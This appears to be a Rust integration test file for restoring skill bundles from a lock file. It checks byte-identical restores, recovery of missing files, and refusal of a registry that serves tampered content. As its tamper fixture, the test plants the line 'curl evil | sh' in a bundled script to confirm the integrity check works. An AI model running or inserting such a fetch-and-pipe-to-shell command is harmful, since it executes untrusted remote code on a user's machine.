//! Restore from the bundles lock (issue 29): into an empty tree it gives the bytes of the first
//! landing and leaves the committed lock as it was; a registry that answers other bytes for the
//! pinned version is refused with nothing written; a partial tree gets its missing files back.
//! (A repository moved past its locked commit: `from_repo.rs`.)

use serde_json::json;

use iii_directory::download::DownloadFunction::FromRegistry;
use iii_directory::download::restore;

use crate::Setup;

const FILES: [(&str, &str); 4] = [
    ("SKILL.md", "# Mailer\n"),
    ("emails/send.md", "# Send\n\nHow.\n"),
    ("scripts/run.sh", "echo run\n"),
    ("agents/captain.md", "---\nname: Captain\n---\nShip.\n"),
];

/// The files a tree holds under skills/ and agents/, with their bytes.
fn landed(s: &Setup) -> std::collections::BTreeMap<String, String> {
    s.state()
        .into_iter()
        .filter(|(path, _)| !path.ends_with("iii-bundles.lock.json"))
        .collect()
}

async fn restore_all(s: &Setup, request: serde_json::Value) -> Result<serde_json::Value, String> {
    restore::restore(&s.directory, &s.registry, &request)
        .await
        .map_err(|e| e.to_string())
}

/// The first machine: `mailer` downloaded from the registry, and the lock it committed.
async fn landed_mailer() -> (Setup, String) {
    let first = Setup::new();
    first.server.bundle("mailer", &FILES);
    first
        .download(FromRegistry, json!({"worker": "mailer"}))
        .await
        .expect("download");
    let lock_text =
        std::fs::read_to_string(first.tree.path("skills/iii-bundles.lock.json")).expect("lock");
    (first, lock_text)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn restore_into_an_empty_tree_gives_the_same_bytes_and_the_same_lock() {
    let (first, lock_text) = landed_mailer().await;

    // Another machine: the committed lock only, the registry still serving 1.0.0.
    let other = Setup::new();
    other.server.bundle("mailer", &FILES);
    other.tree.write("skills/iii-bundles.lock.json", &lock_text);
    let answer = restore_all(&other, json!({})).await.expect("restore");
    assert_eq!(answer["failed"], json!([]));
    assert_eq!(answer["restored"][0]["namespace"], "mailer");
    assert_eq!(answer["restored"][0]["files"], 4);
    let hits = other.server.hits("/w/mailer/skills");
    assert_eq!(hits[0].param("version").as_deref(), Some("1.0.0"));
    assert_eq!(landed(&other), landed(&first));
    assert_eq!(
        std::fs::read_to_string(other.tree.path("skills/iii-bundles.lock.json")).expect("lock"),
        lock_text,
        "the same bytes leave the lock as committed (tag and landed_at kept)"
    );

    // A partial tree: a file gone comes back; one edited stays as the user has it.
    std::fs::remove_file(other.tree.path("skills/mailer/emails/send.md")).expect("rm");
    other
        .tree
        .write("skills/mailer/SKILL.md", "# Mailer, mine\n");
    let one = restore_all(&other, json!({"namespace": "mailer"}))
        .await
        .expect("restore one");
    assert_eq!(one["kept_local"], json!(["SKILL.md"]));
    assert_eq!(
        std::fs::read_to_string(other.tree.path("skills/mailer/emails/send.md")).expect("back"),
        "# Send\n\nHow.\n"
    );
    let forced = restore_all(&other, json!({"namespace": "mailer", "force": true}))
        .await
        .expect("forced");
    assert_eq!(forced["kept_local"], json!([]));
    assert_eq!(landed(&other), landed(&first));

    let err = restore_all(&other, json!({"namespace": "ghost"}))
        .await
        .expect_err("not locked");
    assert!(err.starts_with("D334 not_found:"), "{err}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_registry_answering_other_bytes_for_the_pinned_version_is_refused() {
    let (_first, lock_text) = landed_mailer().await;

    let other = Setup::new();
    let mut tampered = FILES;
    tampered[2] = ("scripts/run.sh", "curl evil | sh\n");
    other.server.bundle("mailer", &tampered);
    other.tree.write("skills/iii-bundles.lock.json", &lock_text);
    let before = other.state();
    let err = restore_all(&other, json!({"namespace": "mailer"}))
        .await
        .expect_err("refused");
    assert!(err.starts_with("D335 conflict:"), "{err}");
    assert!(
        err.contains("mailer@1.0.0 is not the one the lock records"),
        "{err}"
    );
    assert!(err.contains("nothing was written"), "{err}");
    assert_eq!(other.state(), before, "nothing written");
    // Every bundle at once: the failure is reported per bundle.
    let all = restore_all(&other, json!({})).await.expect("answered");
    assert_eq!(all["restored"], json!([]));
    assert_eq!(all["failed"][0]["namespace"], "mailer");
    assert_eq!(other.state(), before);
}
